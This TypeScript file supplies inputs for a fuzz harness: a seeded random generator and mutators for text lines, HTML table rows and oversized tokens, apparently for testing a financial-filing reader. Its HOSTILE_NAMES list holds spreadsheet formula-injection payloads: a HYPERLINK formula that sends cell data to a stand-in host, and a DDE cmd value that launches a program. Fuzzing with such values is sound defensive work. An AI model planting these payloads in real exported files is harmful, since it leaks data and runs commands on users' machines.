// Inputs for the fuzz harness: a seeded random source, and mutations of a source split into units
// (lines of text, <tr> runs of HTML, rows of a grid) that remember which units came through
// untouched, so a row read before a mutation can be looked for after it.

/** mulberry32: small, fast and the same on every machine for a given seed. */
export function random(seed: number) {
  let state = seed >>> 0;
  const next = () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  const int = (n: number) => Math.floor(next() * n);
  return {
    next,
    int,
    pick: <T>(items: readonly T[]): T => items[int(items.length)],
    chance: (p: number) => next() < p,
  };
}
export type Random = ReturnType<typeof random>;

/** A unit of a source and the index it had in the original, or -1 when a mutation changed it. */
export interface Unit<T> {
  value: T;
  id: number;
}

export const HOSTILE_NAMES = [
  '=HYPERLINK("http://x/?d="&C7,"A")',
  "=cmd|' /C calc'!A0",
  "+SUM(1,2)",
  "-2+3",
  "@SUM(A1)",
  "=1+1",
];

const HUGE = ["9".repeat(40), "1" + "0".repeat(309), "123,456,789,012,345,678,901,234.56", "9".repeat(400)];
const ODD_FIGURES = ["7.96E+03", "7,956K", "USD 7,956", "####", "(0)", "(12)", "1,0,0,0", "0x10", "—", "$"];

/** One change to a line of text (no line breaks added): an edit a filing or a paste could make. */
export function mutateLine(line: string, rnd: Random): string {
  switch (rnd.int(9)) {
    case 0:
      return line.replace(
        /^\s*[A-Za-z][^$\d(]*/,
        (label) => rnd.pick(HOSTILE_NAMES) + " ".repeat(label.length),
      );
    case 1:
      return line.replace(/\d[\d,]*/, rnd.pick(HUGE));
    case 2:
      return line.replace(/[-(]/g, "\u2212");
    case 3:
      return line.replace(/ /g, () => (rnd.chance(0.5) ? "\u00a0" : " "));
    case 4:
      return line.replace(/\d[\d,]*/, rnd.pick(ODD_FIGURES));
    case 5: {
      const at = rnd.int(line.length + 1);
      return (
        line.slice(0, at) +
        rnd.pick(["(", ")", "$", "<", ">", "&nbsp;", "\t", "\u200b", "\ufeff", '"', "="]) +
        line.slice(at)
      );
    }
    case 6:
      return line.slice(0, rnd.int(line.length + 1));
    case 7:
      return line.replace(/\s{2,}/, " ");
    default:
      return line.replace(/,/g, "");
  }
}

/** One to four mutations of a list of units: delete, duplicate, swap, change, insert. */
export function mutateUnits<T>(
  units: Unit<T>[],
  rnd: Random,
  change: (value: T) => T,
  insert: () => T,
): Unit<T>[] {
  const out = units.slice();
  const count = 1 + rnd.int(4);
  for (let m = 0; m < count && out.length > 0; m++) {
    const at = rnd.int(out.length);
    switch (rnd.int(6)) {
      case 0:
        out.splice(at, 1 + (rnd.chance(0.2) ? rnd.int(5) : 0));
        break;
      case 1:
        out.splice(at, 0, { value: out[at].value, id: -1 });
        break;
      case 2: {
        const other = rnd.int(out.length);
        [out[at], out[other]] = [
          { value: out[other].value, id: -1 },
          { value: out[at].value, id: -1 },
        ];
        break;
      }
      case 3:
      case 4:
        out[at] = { value: change(out[at].value), id: -1 };
        break;
      default:
        out.splice(at, 0, { value: insert(), id: -1 });
    }
  }
  return out;
}

const TOKENS = [
  "word ",
  ".",
  "(1) ",
  "(0)",
  "<td>",
  "<tr><td>1</td>",
  "1,",
  "$ ",
  "-",
  " \t",
  "Total ",
  "<!--",
  "<table>",
  "&nbsp;",
  "\u2014",
  "=",
  '"',
  "\n",
  "1,234 ",
  "<td>(12)</td>",
  "Balance at beginning ",
];

/** A long run of one token (the inputs that made the old readers quadratic), after a Schedule II title. */
export function longRun(rnd: Random): string {
  const token = rnd.pick(TOKENS);
  const size = 8192 << rnd.int(5); // 8 KB to 128 KB
  const title = rnd.chance(0.5) ? "SCHEDULE II\nVALUATION AND QUALIFYING ACCOUNTS\n" : "";
  return title + token.repeat(Math.ceil(size / token.length)) + (rnd.chance(0.5) ? "a" : "");
}

/** Random text: bytes, accounting characters, or any code point (lone surrogates included). */
export function randomText(rnd: Random): string {
  const length = rnd.int(2000);
  const pool = rnd.int(3);
  let text = "";
  for (let i = 0; i < length; i++) {
    if (pool === 0) text += String.fromCharCode(rnd.int(256));
    else if (pool === 1)
      text += rnd.pick([..."0123456789,.()$- \n\t|<>/tdr", "\u2212", "\u00a0", "Total", "Balance"]);
    else text += String.fromCharCode(rnd.int(0x10000));
  }
  return text;
}
